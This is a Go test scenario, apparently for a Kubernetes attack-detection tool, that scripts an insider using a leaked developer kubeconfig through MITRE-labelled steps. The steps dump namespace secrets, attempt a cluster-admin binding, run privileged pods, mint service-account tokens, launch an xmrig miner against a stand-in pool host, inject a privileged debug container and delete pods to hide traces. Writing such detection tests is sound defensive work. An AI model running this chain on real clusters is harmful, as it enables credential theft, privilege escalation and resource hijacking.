package play

import (
	"fmt"
	"time"

	"github.com/lynceus-io/lynceus/test/scenarios/stage"
)

// Insider is a developer's leaked kubeconfig: no administrator's rights, only those of her team.
func Insider(s *stage.Stage) {
	c := Found(s)
	s.Images(imageNetshoot, imageMiner)
	thief := c.Anna.At(s.Outside("mallory", "203.0.113.140"))

	s.Attack("T1078", "Initial Access: Kubeconfig file", "uses a developer's kubeconfig from an unknown place").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("auth", "whoami")
		for _, may := range [][]string{{"create", "pods/exec"}, {"list", "secrets"}, {"create", "clusterrolebindings"}, {"impersonate", "users"}, {"escalate", "clusterroles"}} {
			a.Kubectl("auth", "can-i", may[0], may[1], "-n", "payments")
		}
	})
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "reads the team's secrets with their values").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "get", "secrets", "-o", "yaml") })
	s.Attack("T1552.007", "Credential Access: List Kubernetes secrets", "asks for the secrets of all namespaces and is refused").
		As(thief).Do(func(a *stage.Act) { a.Kubectl("get", "secrets", "-A") })
	s.Attack("T1098.006", "Privilege Escalation: Cluster-admin binding", "tries to become cluster-admin and is refused").
		As(thief).Do(func(a *stage.Act) {
		a.Kubectl("create", "clusterrolebinding", "anna-admin", "--clusterrole=cluster-admin", "--user=anna.keller")
	})
	s.Attack("T1610", "Privilege Escalation: Privileged container", "runs a privileged pod in the team's namespace").
		As(thief).Do(func(a *stage.Act) { a.MustApply(privilegedPod("payments", "perf-test"), "create", "-f", "-") })
	s.Wrote(thief, "payments", "Pod/perf-test", "Pod/api-debug")
	shell := s.PodNamed("payments", "perf-test")
	s.Attack("T1611", "Execution: Exec into container", "works on the node from there").
		As(thief).On(shell).Do(func(a *stage.Act) { a.Must("-n", "payments", "exec", shell.Name, "--", "sh", "-c", "id; hostname; ps") })

	s.Attack("T1610", "Lateral Movement: Container service account", "runs a pod with another account of the namespace").
		As(thief).Do(func(a *stage.Act) {
		a.MustApply(podRunning("payments", "api-debug", imageAPI, "[app, serve]", "serviceAccountName: payments-api", ""), "create", "-f", "-")
	})
	debug := s.PodNamed("payments", "api-debug")
	s.Attack("T1552.007", "Credential Access: Access container service account", "has a token made for that account").
		As(thief).Do(func(a *stage.Act) { a.Must("-n", "payments", "create", "token", "payments-api", "--duration=12h") })
	s.Attack("T1613", "Discovery: Access Kubernetes API server", "looks around with that pod's own account").
		As(debug.ServiceAccount().By(thief.Person)).Do(func(a *stage.Act) {
		a.Kubectl("auth", "can-i", "--list")
		a.Kubectl("get", "pods", "-A")
		a.Kubectl("get", "secrets", "-n", "payments")
	})
	s.Attack("T1496", "Impact: Resource hijacking", "runs a miner as a job").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "create", "job", "reindex", "--image="+imageMiner, "--", "xmrig", "-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet")
	})
	ledger := s.Pod("payments", "app=ledger")
	s.Attack("T1609", "Execution: Exec into container", "attaches to "+ledger.String()).
		As(thief).On(ledger).Do(func(a *stage.Act) { a.Brief(2*time.Second, "-n", "payments", "attach", ledger.Name) })
	s.Attack("T1572", "Lateral Movement: Cluster internal networking", "forwards a port of "+ledger.String()).
		As(thief).On(ledger).Do(func(a *stage.Act) {
		a.Brief(2*time.Second, "-n", "payments", "port-forward", ledger.Name, "18081:8080")
	})
	s.Attack("T1609", "Execution: New container", "puts a debug container into "+ledger.String()).
		As(thief).On(ledger).Do(func(a *stage.Act) {
		a.Apply(fmt.Sprintf(`{"spec":{"ephemeralContainers":[{"name":"dbg","image":%q,"imagePullPolicy":"IfNotPresent","targetContainerName":"ledger","command":["sleep","600"],"securityContext":{"privileged":true}}]}}`, imageNetshoot),
			"-n", "payments", "patch", "pod", ledger.Name, "--subresource=ephemeralcontainers", "--type=strategic", "--patch-file=/dev/stdin")
	})
	s.Attack("T1070", "Defense Evasion: Clear container logs", "deletes the pods it made").
		As(thief).Do(func(a *stage.Act) {
		a.Must("-n", "payments", "delete", "pod", "perf-test", "api-debug", "--now")
	})
}
